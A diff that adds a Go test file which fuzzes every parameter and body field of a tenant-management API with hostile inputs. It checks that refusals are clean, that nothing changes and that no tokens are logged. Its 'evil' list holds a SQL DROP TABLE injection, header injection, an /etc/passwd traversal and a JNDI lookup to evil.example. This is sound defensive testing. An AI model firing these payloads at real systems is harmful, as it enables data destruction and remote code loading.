@@ -1,0 +1,277 @@
+package api_test
+
+import (
+	"database/sql"
+	"encoding/json"
+	"fmt"
+	"hash/fnv"
+	"maps"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"go.uber.org/zap"
+
+	"github.com/tenantry/tenantry/internal/api"
+	"github.com/tenantry/tenantry/internal/catalog"
+	"github.com/tenantry/tenantry/internal/tenantry"
+)
+
+// bodies are valid ones, by operation.
+func bodies() map[string]map[string]any {
+	return map[string]map[string]any{
+		"add-tenant":         {"name": "A", "directory": "a.example.com"},
+		"change-tenant":      {"weight": 20},
+		"preview-policy":     {"name": "P", "at": "01:00"},
+		"add-policy":         {"name": "P", "at": "01:00"},
+		"set-retention":      {"last": 1},
+		"set-hold":           {"reason": "case 7"},
+		"add-token":          {"name": "ada", "role": "auditor"},
+		"start-run":          {"resources": []string{string(bob)}},
+		"start-restore":      {"resource": ada, "workload": "mailbox", "snapshot": 7},
+		"start-export":       {"resource": ada, "workload": "mailbox", "snapshot": 7},
+		"start-verification": {"resource": ada, "workload": "mailbox", "snapshot": 7},
+	}
+}
+
+// evil is what callers with bad intent, or bad programs, send.
+var evil = []any{
+	`'; DROP TABLE tenants; --`, `" OR ?0 = "%s`, "a\r\nX-Evil: 1", "\x00", "../../../etc/passwd",
+	"<script>${jndi:ldap://evil.example/a}</script>", "\xff\u202e", strings.Repeat("A", 20_000),
+	nil, -1e300, []any{}, map[string]any{"$ne": nil}, deep(500),
+}
+
+func deep(n int) any {
+	var v any = "x"
+	for range n {
+		v = []any{v}
+	}
+	return v
+}
+
+// schema is as much of JSON Schema as the document uses.
+type schema struct {
+	Ref        string            `json:"$ref"`
+	Type       string            `json:"type"`
+	Properties map[string]schema `json:"properties"`
+}
+
+type described struct {
+	operation
+	params []struct{ Name, In string }
+	fields []string // of the body
+}
+
+// described is every operation with its parameters and the fields of its body.
+func describedOperations(t *testing.T) []described {
+	t.Helper()
+	doc, err := api.OpenAPI()
+	must(t, err)
+	var spec struct {
+		Paths map[string]map[string]struct {
+			OperationID string                      `json:"operationId"`
+			Parameters  []struct{ Name, In string } `json:"parameters"`
+			RequestBody struct {
+				Content map[string]struct{ Schema schema } `json:"content"`
+			} `json:"requestBody"`
+		} `json:"paths"`
+		Components struct{ Schemas map[string]schema } `json:"components"`
+	}
+	must(t, json.Unmarshal(doc, &spec))
+	var all []described
+	for path, methods := range spec.Paths {
+		for method, op := range methods {
+			d := described{operation: operation{op.OperationID, strings.ToUpper(method), path}, params: op.Parameters}
+			body := op.RequestBody.Content["application/json"].Schema
+			if body.Ref != "" {
+				body = spec.Components.Schemas[body.Ref[strings.LastIndex(body.Ref, "/")+1:]]
+			}
+			d.fields = slices.Sorted(maps.Keys(body.Properties))
+			all = append(all, d)
+		}
+	}
+	slices.SortFunc(all, func(a, b described) int { return strings.Compare(a.id, b.id) })
+	return all
+}
+
+// The walk: every parameter and every field of every operation gets everything evil. A
+// refusal has a stable kind and changes nothing, nothing fails on our side, and nothing
+// secret is logged.
+func TestInjectionWalk(t *testing.T) {
+	t.Parallel()
+	h := newHouse(t)
+	h.browser.items = []api.BrowseItem{{ID: "i1", Kind: "message", Name: "Hello"}}
+	id := h.addConnected("Contoso", contosoGUID)
+	h.seal(id, catalog.Problem{ItemID: "m1", Name: "A mail", Reason: "ErrorItemCorrupt"})
+	w := h.watch()
+	calls, refused := 0, 0
+	ask := func(op described, where, path string, body any) {
+		t.Helper()
+		if s, ok := body.(string); !ok || s == "" {
+			text, err := json.Marshal(body)
+			must(t, err)
+			body = string(text)
+		}
+		if body == "null" {
+			body = nil
+		}
+		before := w.contents()
+		got := h.call(op.method, path, body)
+		calls++
+		told := fmt.Sprintf("%s: %s: %d %.200s", op.id, where, got.status, got.body)
+		if got.status >= 500 || got.header.Get("X-Evil") != "" {
+			t.Errorf("%s", told)
+		}
+		if got.status < 400 {
+			return
+		}
+		refused++
+		// net/http itself answers a path that is no path.
+		if got.header.Get("Content-Type") != "application/problem+json" || got.text("kind") == "" {
+			t.Errorf("%s: not a problem with a kind", told)
+		}
+		for _, inside := range []string{"sqlite", "sql:", "syntax error", "goroutine", "/internal/"} {
+			if strings.Contains(strings.ToLower(string(got.body)), inside) {
+				t.Errorf("%s: shows %q", told, inside)
+			}
+		}
+		if after := w.contents(); after != before {
+			t.Errorf("%s: refused, and yet something changed", told)
+		}
+	}
+	for _, op := range describedOperations(t) {
+		valid := bodies()[op.id]
+		for _, e := range evil {
+			text, isText := e.(string)
+			if !isText {
+				text = fmt.Sprint(e)
+			}
+			for _, p := range op.params {
+				if len(text) > 10_000 {
+					continue // longer than a request line may be: net/http refuses it
+				}
+				where := fmt.Sprintf("%s %s = %.40q", p.In, p.Name, text)
+				switch p.In {
+				case "path":
+					if escaped := url.PathEscape(text); escaped != "" && text != "../../../etc/passwd" {
+						ask(op, where, op.filledBut(p.Name, escaped, id), valid)
+					}
+				case "query":
+					ask(op, where, op.filled(id)+"?"+url.Values{p.Name: {text}}.Encode(), valid)
+				}
+			}
+			for _, field := range op.fields {
+				body := maps.Clone(valid)
+				if body == nil {
+					body = map[string]any{}
+				}
+				body[field] = e
+				ask(op, fmt.Sprintf("body %s = %.40q", field, text), op.filled(id), body)
+			}
+		}
+		if op.fields != nil {
+			for _, body := range []string{"{", "[]", `"x"`, `{"a":` + strings.Repeat("[", 100_000), strings.Repeat(" ", 2<<20), `{"name":"a","name":"b","unknown":1}`, "\xff"} {
+				ask(op, fmt.Sprintf("body %.20q", body), op.filled(id), body)
+			}
+		}
+	}
+	if calls < 1200 || refused < 800 {
+		t.Errorf("%d calls, %d refused: the walk is shorter than it should be", calls, refused)
+	}
+	for _, e := range h.logs.All() {
+		if e.Level >= zap.ErrorLevel {
+			t.Errorf("logged: %s %v", e.Message, e.ContextMap())
+		}
+		if text := fmt.Sprint(e.Message, e.ContextMap()); strings.Contains(text, h.token) || strings.Contains(text, "tenantry_") {
+			t.Errorf("a token in the log: %s", text)
+		}
+	}
+}
+
+// filledBut is filled with one parameter as given.
+func (o operation) filledBut(name, value string, tenant tenantry.TenantID) string {
+	before, after, _ := strings.Cut(o.path, "{"+name+"}")
+	rest := operation{path: before + "\x01" + after}
+	return strings.Replace(rest.filled(tenant), "\x01", value, 1)
+}
+
+// Wrong content types are refused, whatever is in the body.
+func TestContentTypes(t *testing.T) {
+	t.Parallel()
+	h := newHouse(t)
+	for _, kind := range []string{"text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "nonsense"} {
+		r := h.request("POST", "/v1/tenants", `{"name":"A","directory":"a.example.com"}`)
+		r.Header.Set("Authorization", "Bearer "+h.token)
+		r.Header.Set("Content-Type", kind)
+		if got := h.send(r); got.status != http.StatusUnsupportedMediaType || got.text("kind") != "invalid" {
+			t.Errorf("%s: %d %s", kind, got.status, got.body)
+		}
+	}
+}
+
+// watch tells whether any table but the audit log changes.
+type watch struct {
+	h       *house
+	version *sql.Stmt
+	tables  []*sql.Stmt
+	last    int64
+	digest  uint64
+}
+
+func (h *house) watch() *watch {
+	h.t.Helper()
+	db, err := sql.Open("sqlite", "file:"+h.file)
+	must(h.t, err)
+	db.SetMaxOpenConns(1) // data_version is of one connection
+	h.t.Cleanup(func() { _ = db.Close() })
+	w := &watch{h: h, last: -1}
+	prepare := func(query string) *sql.Stmt {
+		statement, err := db.PrepareContext(h.t.Context(), query)
+		must(h.t, err)
+		return statement
+	}
+	w.version = prepare("PRAGMA data_version")
+	for _, name := range w.list(prepare("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('audit', 'sqlite_sequence') ORDER BY name")) {
+		w.tables = append(w.tables, prepare("SELECT * FROM "+name[0].(string)))
+	}
+	return w
+}
+
+// contents is a digest of the tables; it is computed anew when somebody has written.
+func (w *watch) contents() uint64 {
+	w.h.t.Helper()
+	var version int64
+	must(w.h.t, w.version.QueryRowContext(w.h.t.Context()).Scan(&version))
+	if version == w.last {
+		return w.digest
+	}
+	digest := fnv.New64a()
+	for i, table := range w.tables {
+		for _, row := range w.list(table) {
+			fmt.Fprintln(digest, i, row)
+		}
+	}
+	w.last, w.digest = version, digest.Sum64()
+	return w.digest
+}
+
+func (w *watch) list(query *sql.Stmt) (all [][]any) {
+	w.h.t.Helper()
+	rows, err := query.QueryContext(w.h.t.Context())
+	must(w.h.t, err)
+	defer func() { _ = rows.Close() }()
+	columns, err := rows.Columns()
+	must(w.h.t, err)
+	for rows.Next() {
+		values, at := make([]any, len(columns)), make([]any, len(columns))
+		for i := range values {
+			at[i] = &values[i]
+		}
+		must(w.h.t, rows.Scan(at...))
+		all = append(all, values)
+	}
+	must(w.h.t, rows.Err())
+	return all
+}
